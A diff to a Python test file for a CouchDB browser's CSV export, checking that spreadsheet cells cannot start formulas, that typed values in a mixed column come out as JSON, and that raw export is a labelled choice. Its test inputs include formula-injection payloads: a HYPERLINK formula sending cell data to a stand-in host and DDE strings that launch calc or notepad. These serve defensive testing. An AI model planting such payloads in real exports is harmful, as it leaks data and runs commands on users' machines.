@@ -15,8 +15,9 @@ from tests.support.data import HOSTILE
 
 FORMULAS = ["=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|' /C notepad'!'A1'", "-leading-dash", "+", "@", "-"]
-HARMLESS = ["plain", " =leading space", "'already quoted", "", "a=b", "ünï", "line\nbreak"]
-# Values of other types: a number (negative too) stays a number, true/false, JSON text of lists and objects.
+HARMLESS = ["plain", " =leading space", "'already quoted", "a=b", "ünï", "line\nbreak"]
+# Values of other types, in a column of their own, "w:mixed": a number (negative too) stays a number, true/false,
+# JSON text of lists, objects and texts.
 TYPED = [-5, -0.5, jsontext.JsonNumber("-1234.5e2"), 0, True, False, ["=1"], {"=k": "=v"}]
 TEXTS = FORMULAS + HARMLESS + [v for v in HOSTILE["field_values"] if isinstance(v, str)] + HOSTILE["document_ids"]
 
@@ -25,7 +26,7 @@ TEXTS = FORMULAS + HARMLESS + [v for v in HOSTILE["field_values"] if isinstance(
 def formulas_db(make_database, couch_server):
     db = make_database(security=TEAM)
     docs = [{"_id": f"t{i:03}", "v": text} for i, text in enumerate(TEXTS)]
-    docs += [{"_id": f"n{i:03}", "v": value} for i, value in enumerate(TYPED)]
+    docs += [{"_id": f"n{i:03}", "w": value} for i, value in enumerate(TYPED + ["=1+1"])]
     docs += [{"_id": "-leading-dash", "v": "id"}, {"_id": "@id", "v": "id"}]
     answer = couch_server.admin_http().post(f"{couch_server.url}{db}/_bulk_docs", timeout=30,
                                             data=jsontext.dumps({"docs": docs}).encode(),
@@ -65,10 +66,14 @@ def test_the_spreadsheet_cells_are_the_default_and_start_no_formula(member_clien
 
 def test_numbers_and_other_types_are_written_as_in_raw(member_client, formulas_db):
     db, docs = formulas_db
-    spreadsheet, raw = export(member_client, db), export(member_client, db, csv_values="raw")
+    spreadsheet, raw = export(member_client, db, fields="_id,w"), export(member_client, db, fields="_id,w",
+                                                                          csv_values="raw")
+    assert spreadsheet[0] == raw[0] == ["_id", "w:mixed"]
     typed = {row[0]: row[1] for row in spreadsheet if row[0].startswith("n")}
     assert typed == {row[0]: row[1] for row in raw if row[0].startswith("n")}
     assert typed["n000"] == "-5" and typed["n002"].startswith("-1234") and typed["n006"] == '["=1"]'
+    # In a mixed column a text is JSON, in quotes: no spreadsheet reads it as a formula, and it imports exactly.
+    assert typed["n008"] == '"=1+1"'
 
 
 def test_raw_values_are_exact(member_client, formulas_db):
@@ -79,8 +84,8 @@ def test_raw_values_are_exact(member_client, formulas_db):
 
 
 def test_the_header_row_is_neutralised_too():
-    chunks = export_chunks(_NoCouch(), "x", ExportChoice(format="csv", fields=("=a", "b"), selector=None))
-    assert next(iter(chunks)).startswith("'=a,b")
+    chunks = export_chunks(_NoCouch(), "x", ExportChoice(format="csv", fields=(("=a",), ("b",)), selector=None))
+    assert next(iter(chunks)).startswith("_id,'=a,b")
 
 
 class _NoCouch:
@@ -98,7 +103,7 @@ class _Empty:
 
 def test_the_export_page_offers_raw_values_as_an_explicit_choice(member_client, formulas_db):
     page = member_client.get(reverse("browser:export", kwargs={"db": formulas_db[0]})).content.decode()
-    assert "Raw values (for programs, not spreadsheets)" in page
+    assert "Raw values (for programs, not spreadsheets): imports again exactly" in page
     assert 'name="csv_values" value="spreadsheet"' in page and 'value="raw"' in page
     bad = member_client.get(reverse("browser:export", kwargs={"db": formulas_db[0]}),
                             {"format": "csv", "fields": "v", "csv_values": "formulas"})
